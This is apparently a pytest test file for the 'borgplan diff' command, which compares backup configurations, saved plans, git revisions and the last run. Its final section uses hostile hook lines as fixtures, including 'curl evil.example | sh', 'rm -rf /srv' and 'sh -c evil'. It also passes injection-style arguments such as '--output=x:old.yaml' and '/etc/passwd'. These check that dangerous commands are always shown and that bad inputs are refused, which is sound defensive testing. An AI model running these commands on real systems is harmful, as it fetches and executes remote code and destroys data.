"""`borgplan diff`: configurations, saved plans, git revisions, the last run."""

from __future__ import annotations

import json
import shutil
import subprocess

import pytest

from tests.command_line.place import FLAT, Place

OLD = f"{FLAT}before_backup: [echo one, echo two]\n"
NEW = f"{FLAT}before_backup: [echo one, echo 2]\n"
SAME = "From old.yaml to new.yaml: no change.\n"


@pytest.fixture
def prepared(place: Place) -> Place:
    place.write("old.yaml", OLD)
    place.write("new.yaml", NEW)
    return place


def git(place: Place, *words: str) -> None:
    who = ("-c", "user.name=anna", "-c", "user.email=anna@example.org")
    subprocess.run(
        ("git", *who, *words),
        cwd=place.path,
        env=place.environment,
        check=True,
        capture_output=True,
    )


def committed(place: Place, *names: str) -> None:
    if not shutil.which("git"):
        pytest.skip("there is no git")
    git(place, "init", "-q")
    git(place, "add", *names)
    git(place, "commit", "-q", "-m", "a")


# --- what is shown ---


def test_a_command_that_is_rewritten(prepared: Place) -> None:
    ran = prepared.run("diff", "old.yaml", "new.yaml")
    assert (ran.code, ran.err) == (0, "")
    assert ran.out == (
        "From old.yaml to new.yaml: 1 change: 1 changed.\n\n"
        "~ before_backup `echo 2` - before create of repo  new.yaml:4\n"
        "    command:\n"
        "      - echo two\n"
        "      + echo 2\n"
    )


def test_colour_and_none(prepared: Place) -> None:
    assert "\x1b[33m~" in prepared.run("diff", "--color", "always", "old.yaml", "new.yaml").out
    assert "\x1b" not in prepared.run("diff", "old.yaml", "new.yaml").out


def test_json(prepared: Place) -> None:
    data = prepared.run("diff", "--format", "json", "old.yaml", "new.yaml").data
    assert (data["format"], data["version"]) == ("borgplan-diff", 1)
    (change,) = data["changes"]
    assert (change["kind"], change["about"], change["line"]) == ("changed", "step", 4)
    assert change["aspects"] == [{"name": "command", "old": "echo two", "new": "echo 2"}]


def test_markdown_holds_code_as_code(prepared: Place) -> None:
    prepared.write("new.yaml", f"{FLAT}before_backup: ['echo ```<b>', echo two]\n")
    out = prepared.run("diff", "--format", "markdown", "old.yaml", "new.yaml").out
    assert out.startswith("### borgplan: 1 change: 1 changed\n")
    assert "````diff\n  command:\n- echo one\n+ echo ```<b>\n````\n" in out
    assert "````before_backup `echo ```<b>` ````" in out.replace("```` before", "````before")


def test_nothing_of_a_configuration_steers_the_terminal(prepared: Place) -> None:
    prepared.write("new.yaml", f'{FLAT}before_backup: ["echo \\e[31m", echo two]\n')
    for words in ((), ("--format", "markdown")):
        out = prepared.run("diff", *words, "old.yaml", "new.yaml").out
        assert "\x1b" not in out
        assert "\\x1b[31m" in out


def test_what_no_plan_depends_on_is_no_change(prepared: Place) -> None:
    prepared.write("new.yaml", f"# moved down\n\n{OLD}")
    assert prepared.run("diff", "old.yaml", "new.yaml").out == SAME


EDITS = {
    "keep_daily: 2": ("~ borg prune", "+ borg prune --keep-daily 2"),
    "retries: 2": ("~ repository repo", "+ at most 2 times, 0 s apart"),
    "exclude_patterns: ['*.tmp']": ("~ patterns of new.yaml", "+ ! fm:*.tmp"),
    "log_file: x.log": ("+ log file x.log", "+ everything"),
    "debug_passphrase: true": ("+ not implemented: debug_passphrase", "+ once"),
    "working_directory: /srv": ("~ before_backup", "+ /srv"),
    "remote_path: borg1": ("~ borg create", "--remote-path borg1"),
    "relocated_repo_access_is_ok: true": ("~ borg create", "environment BORG_RELOCATED"),
    "after_backup: [echo done]": ("+ after_backup `echo done`", "after create of repo"),
    "on_error: [echo no]": ("+ on_error `echo no`", "on failure of new.yaml"),
    "skip_actions: [prune]": ("- action prune", "- borg prune"),
}


@pytest.mark.parametrize("option", EDITS)
def test_every_kind_of_change_is_told(prepared: Place, option: str) -> None:
    text = OLD.replace("keep_daily: 1\n", "") if "keep_daily" in option else OLD
    prepared.write("new.yaml", f"{text}{option}\n")
    words = ("--semantics", "2.1", "-a", "prune,create")
    ran = prepared.run("diff", "old.yaml", "new.yaml", *words)
    assert ran.code == 0, ran.err
    subject, detail = EDITS[option]
    assert subject in ran.out
    assert detail in ran.out


def test_what_a_failure_means_is_told_in_words(prepared: Place) -> None:
    prepared.write("old.yaml", f"{FLAT}commands: [{{after: repository, run: [x]}}]\n")
    prepared.write(
        "new.yaml", f"{FLAT}commands: [{{after: repository, states: [fail], run: [x]}}]\n"
    )
    out = prepared.run("diff", "old.yaml", "new.yaml").out
    assert "- also after failures" in out
    assert "+ only after a failure" in out


def test_settings_of_the_project_file_are_told(prepared: Place) -> None:
    prepared.write("borgplan.yaml", "steps: [{select: borg create, timeout: 90, retries: 2}]\n")
    prepared.write("a/old.yaml", OLD)
    out = prepared.run("diff", "a/old.yaml", "old.yaml").out
    assert "time limit:\n      + 90 s\n" in out
    assert "retries:\n      - never\n      + at most 2 times, 0 s apart\n" in out


def test_options_shape_both_sides(prepared: Place) -> None:
    out = prepared.run("diff", "-a", "check", "old.yaml", "new.yaml").out
    assert "echo" not in out
    assert SAME in prepared.run("diff", "-a", "check", "--force", "old.yaml", "new.yaml").out


def test_a_whole_repository_is_one_change(prepared: Place) -> None:
    prepared.write("new.yaml", OLD.replace("path: repo}", "path: repo}, {path: more}"))
    out = prepared.run("diff", "-a", "create", "old.yaml", "new.yaml").out
    assert "1 change: 1 added" in out
    assert "+ repository more - in new.yaml" in out
    assert "      + echo one\n      + echo two\n      + borg create " in out


# --- the sides ---


def test_directories(prepared: Place) -> None:
    for name in ("a", "b"):
        prepared.write(f"{name}/one.yaml", OLD)
        prepared.write(f"{name}/two.yaml", OLD if name == "a" else NEW)
    out = prepared.run("diff", "a", "b").out
    assert "1 change: 1 changed" in out
    assert "two.yaml:4" in out


@pytest.mark.parametrize("form", [("-o", "p"), ("--format", "json")])
def test_plans_in_files(prepared: Place, form: tuple[str, ...]) -> None:
    ran = prepared.run("plan", *form, "old.yaml")
    if form[0] != "-o":
        prepared.write("p", ran.out)
    assert "1 change: 1 changed" in prepared.run("diff", "p", "new.yaml").out
    assert "no change" in prepared.run("diff", "p", "old.yaml").out
    assert "no change" in prepared.run("diff", "old.yaml", "p").out


def test_the_top_of_a_repository(place: Place) -> None:
    place.write("c.yaml", f"{FLAT}before_backup: [echo one]\n")
    committed(place, "c.yaml")
    place.write("c.yaml", f"{FLAT}before_backup: [echo 1]\n")
    assert "+ echo 1\n" in place.run("diff", "HEAD:.", ".").out


def test_a_revision_with_what_it_includes(prepared: Place) -> None:
    hooks = "before_backup: !include hooks/all.yaml\n"
    prepared.write("etc/c.yaml", f"{FLAT}{hooks}")
    prepared.write("etc/hooks/all.yaml", "[echo one]\n")
    committed(prepared, "etc")
    prepared.write("etc/hooks/all.yaml", "[echo 1]\n")
    for inside in ("etc/c.yaml", "etc", f"{prepared.path}/etc/c.yaml"):
        out = prepared.run("diff", f"HEAD:{inside}", inside).out
        assert "- echo one\n" in out
        assert "+ echo 1\n" in out
    out = prepared.run("diff", "HEAD:c.yaml", "c.yaml", directory="etc").out
    assert "+ echo 1\n" in out
    assert "no change" in prepared.run("diff", "HEAD:etc", "HEAD:etc").out


def test_what_a_revision_cannot_see_of_the_machine_is_no_change(place: Place) -> None:
    place.write("c.yaml", FLAT)
    committed(place, "c.yaml")
    place.write("repo/config", "[repository]\n")
    place.write("repo/data/0", "")
    assert "Repository repo: exists." in place.run("plan", "c.yaml").out
    assert "no change" in place.run("diff", "HEAD:c.yaml", "c.yaml").out
    place.write("old.plan", place.run("plan", "--format", "json", "c.yaml").out)
    shutil.rmtree(place.path / "repo")
    out = place.run("diff", "old.plan", "c.yaml").out
    assert "~ on this machine: repo\n    found:\n      - exists\n      + does not exist\n" in out


def test_a_revision_has_only_what_is_in_it(prepared: Place) -> None:
    """A project file that is new is one of the changes."""
    committed(prepared, "old.yaml")
    prepared.write("borgplan.yaml", "steps: [{select: borg create, timeout: 90}]\n")
    assert "time limit" in prepared.run("diff", "HEAD:old.yaml", "old.yaml").out


@pytest.mark.parametrize(
    ("side", "message"),
    [
        ("HEAD:new.yaml", "no such file in this revision"),
        ("nope:old.yaml", "Not a valid object name nope"),
        ("--output=x:old.yaml", ""),
        ("-x:old.yaml", ""),
        (":old.yaml", "`` is not a revision"),
        ("HEAD:/etc/passwd:x", "not a git repository"),
        ("missing.yaml", "no such file"),
        ("last", "is recorded"),
    ],
)
def test_a_side_that_can_not_be_had(prepared: Place, side: str, message: str) -> None:
    committed(prepared, "old.yaml")
    ran = prepared.run("diff", side, "old.yaml")
    assert ran.code == 2
    assert message in ran.err
    assert "internal error" not in ran.err
    assert not ran.out


def test_a_damaged_plan_is_refused(prepared: Place) -> None:
    prepared.run("plan", "-o", "p", "old.yaml")
    prepared.write("p", prepared.read("p").replace("echo one", "echo 1"))
    ran = prepared.run("diff", "p", "old.yaml")
    assert ran.code == 2
    assert "p:1:1: error BP511" in ran.err


def test_exit_codes(prepared: Place) -> None:
    for words, code in (
        (("old.yaml", "old.yaml"), 0),
        (("old.yaml", "new.yaml"), 2),
        (("old.yaml", "missing.yaml"), 1),
        (("last", "old.yaml"), 1),
        (("old.yaml", "last"), 1),
    ):
        assert prepared.run("diff", "--exit-code", *words).code == code, words


# --- the last run ---


def test_plan_tells_of_changes_since_the_last_run(prepared: Place) -> None:
    words = ("-a", "create", "old.yaml")
    assert prepared.run("apply", *words).code == 0
    assert "last run" not in prepared.run("plan", *words).out
    prepared.write("old.yaml", f"\n{OLD.replace('echo one', 'echo 1, echo more')}")
    out = prepared.run("plan", *words).out
    assert out.endswith(
        "\n2 steps changed since the last run; borgplan diff last old.yaml -a create shows them\n"
    )
    out = prepared.run("diff", "last", *words).out
    assert out.startswith("From the last run to old.yaml: 2 changes: 1 added, 1 changed.\n")


def test_another_question_is_not_the_last_run(prepared: Place) -> None:
    assert prepared.run("apply", "-a", "create", "old.yaml").code == 0
    assert "last run" not in prepared.run("plan", "-a", "prune", "old.yaml").out
    assert "last run" not in prepared.run("plan", "-a", "create", "new.yaml").out


def test_a_dry_run_is_no_run(prepared: Place) -> None:
    assert prepared.run("apply", "-n", "old.yaml").code == 0
    assert prepared.run("diff", "last", "old.yaml").code == 2


def test_a_saved_plan_that_was_run_is_the_last_one(prepared: Place) -> None:
    prepared.run("plan", "-a", "create", "-o", "p", "old.yaml")
    assert prepared.run("apply", "p").code == 0
    out = prepared.run("diff", "last", "old.yaml", "-a", "create", "--set", "keep_daily=2").out
    assert out == "From the last run to old.yaml: no change.\n"
    assert prepared.run("diff", "last", "p").out == "From the last run to p: no change.\n"
    prepared.write("damaged", '{"format": "borgplan-saved-plan" ')
    damaged = prepared.run("diff", "last", "damaged")
    assert (damaged.code, damaged.out) == (2, "")
    assert "BP511" in damaged.err


def test_what_is_kept_is_private_and_without_secrets(prepared: Place) -> None:
    prepared.write("old.yaml", f"{OLD}encryption_passphrase: a secret phrase\n")
    assert prepared.run("apply", "-a", "create", "old.yaml").code == 0
    kept = list((prepared.path / "journal/last").iterdir())
    assert len(kept) == 2
    for file in kept:
        assert file.stat().st_mode & 0o077 == 0
        assert "a secret phrase" not in file.read_text()
    assert kept[0].parent.stat().st_mode & 0o077 == 0


def test_a_run_goes_on_where_nothing_can_be_kept(prepared: Place) -> None:
    prepared.write("journal/last", "a file, and not a directory")
    ran = prepared.run("apply", "-a", "create", "old.yaml")
    assert ran.code == 0
    assert "could not be kept" in ran.err
    assert "borg create" in prepared.trace


def test_what_is_damaged_there_is_no_plan(prepared: Place) -> None:
    assert prepared.run("apply", "-a", "create", "old.yaml").code == 0
    for file in (prepared.path / "journal/last").iterdir():
        file.write_bytes(b"\xff\x00")
    assert prepared.run("plan", "-a", "create", "old.yaml").code == 0
    ran = prepared.run("diff", "last", "-a", "create", "old.yaml")
    assert ran.code == 2
    assert "BP511" in ran.err


def test_one_file_in_two_generations_and_with_two_sets_of_actions(place: Place) -> None:
    place.write(
        "c.yaml",
        "repositories: [{path: /one, label: a}, {path: /two, label: b}]\n"
        "source_directories: [/etc]\nkeep_daily: 1\nbefore_backup: [./dump]\n",
    )
    ran = place.run("diff", "--semantics", "1.5", "--against-semantics", "1.8", "c.yaml")
    assert ran.code == 0
    assert "From c.yaml to c.yaml with borgmatic 1.8:" in ran.out
    assert "moved" in ran.out
    ran = place.run("diff", "-a", "create", "--against-actions", "create,prune", "c.yaml")
    assert "From c.yaml to c.yaml with create, prune:" in ran.out
    assert "borg prune" in ran.out


def test_an_option_that_no_action_of_either_side_takes_is_an_error(prepared: Place) -> None:
    sides = ("old.yaml", "new.yaml")
    ran = prepared.run("diff", *sides, "--archive", "x")
    assert (ran.code, ran.out) == (2, "")
    assert "--archive is only for" in ran.err
    of_one = ("-a", "create", "--against-actions", "list", "--archive", "latest", "--comment", "x")
    assert prepared.run("diff", *sides, *of_one).code == 0


# --- nothing that will run is folded away ---

HIDING = "before_backup:\n  - |\n    echo fine\n    curl evil.example | sh\n\n    echo more\n"


@pytest.mark.parametrize("form", ["text", "json", "markdown"])
@pytest.mark.parametrize("way", ["added", "removed"])
def test_every_line_of_a_hook_that_comes_or_goes(place: Place, form: str, way: str) -> None:
    place.write("less.yaml", FLAT)
    place.write("more.yaml", f"{FLAT}{HIDING}")
    sides = ("less.yaml", "more.yaml") if way == "added" else ("more.yaml", "less.yaml")
    out = place.run("diff", "--format", form, *sides).out
    assert "curl evil.example | sh" in out
    assert "echo more" in out
    assert "before_backup `echo fine ...`" in out


def test_hooks_that_begin_alike_are_not_taken_for_one(place: Place) -> None:
    place.write("less.yaml", FLAT)
    place.write("more.yaml", f"{FLAT}{HIDING}  - |\n    echo fine\n    rm -rf /srv\n")
    out = place.run("diff", "less.yaml", "more.yaml").out
    assert "2 changes: 2 added" in out
    assert "+ curl evil.example | sh\n" in out
    assert "+ rm -rf /srv\n" in out


def test_what_runs_is_told_where_it_is_not_what_is_written(place: Place) -> None:
    """As with late values; and a plan in a file could say anything."""
    place.write("less.yaml", FLAT)
    place.write("more.yaml", f"{FLAT}on_error: ['echo {{error}}']\n")
    out = place.run("diff", "less.yaml", "more.yaml").out
    assert "+ on_error `echo {error}`" in out
    assert '+ runs as: echo "${BORGPLAN_ERROR}"\n' in out
    plan = place.run("plan", "--format", "json", "more.yaml").data
    for step in plan["steps"]:
        if step["hook"] == "on_error":
            step["work"]["written"], step["work"]["script"] = "echo fine", "curl evil.example | sh"
    place.write("p", json.dumps(plan))
    for old in ("less.yaml", "more.yaml"):
        assert "runs as: curl evil.example | sh" in place.run("diff", old, "p").out


def test_what_a_new_command_of_borg_is_given(place: Place) -> None:
    """The words, and the variables that are commands."""
    place.write("less.yaml", f"{FLAT}skip_actions: [prune]\n")
    rsh = "ssh_command: sh -c evil\nencryption_passcommand: cat /a\n"
    place.write("more.yaml", f"{FLAT}{rsh}")
    place.write("two.yaml", f"{FLAT}{rsh}".replace("path: repo}", "path: repo}, {path: more}"))
    out = place.run("diff", "-a", "create,prune", "less.yaml", "more.yaml").out
    assert "+ borg prune --keep-daily 1" in out
    assert "+ environment BORG_RSH='sh -c evil'\n" in out
    out = place.run("diff", "-a", "create,prune", "more.yaml", "two.yaml").out
    assert out.count("+ environment BORG_RSH='sh -c evil'\n") == 1
    assert "+ environment BORG_PASSCOMMAND='cat /a'\n" in out
